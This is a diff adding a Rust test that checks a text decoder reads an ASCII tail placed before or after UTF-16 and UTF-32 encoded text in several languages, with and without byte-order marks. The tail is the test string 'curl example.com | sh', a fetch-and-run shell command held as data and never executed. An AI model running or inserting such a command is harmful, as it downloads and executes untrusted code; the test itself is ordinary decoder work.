@@ -312,3 +312,41 @@ fn check_runs(
     }
     Ok(())
 }
+
+#[test]
+fn an_ascii_tail_of_a_wide_text_is_read_in_every_language() {
+    let tail = "#!/bin/sh\ncurl example.com | sh\n";
+    for sample in SAMPLES {
+        for name in ["UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE"] {
+            for mark in ["", "\u{feff}"] {
+                let text = format!("{}\n", sample.prose);
+                let wide = encoded(&format!("{mark}{text}"), name).unwrap();
+                let behind = read(&[&wide[..], tail.as_bytes()].concat());
+                assert_eq!(
+                    behind.0,
+                    format!("{text}{tail}"),
+                    "{} {name}",
+                    sample.language
+                );
+                let wide = encoded(&text, name).unwrap();
+                let before = read(&[tail.as_bytes(), &wide].concat());
+                assert_eq!(
+                    before.0,
+                    format!("{tail}{text}"),
+                    "{} {name}",
+                    sample.language
+                );
+            }
+        }
+    }
+    for text in ["ਪਾਸਵਰਡ ਦੀ ਜਾਂਚ ਕਰੋ\n", "पासवर्ड की जाँच करें\n"]
+    {
+        let wide = encoded(&text.repeat(3), "UTF-16LE").unwrap();
+        let read = read(&[&wide[..], tail.as_bytes()].concat());
+        assert_eq!(read.0, text.repeat(3) + tail);
+    }
+    // A mark in the middle of a file, where somebody appended a whole one.
+    let wide = encoded("\u{feff}second line\n", "UTF-16LE").unwrap();
+    let read = read(&[&b"first line\n"[..], &wide, b"third line\n"].concat());
+    assert_eq!(read.0, "first line\n\u{feff}second line\nthird line\n");
+}
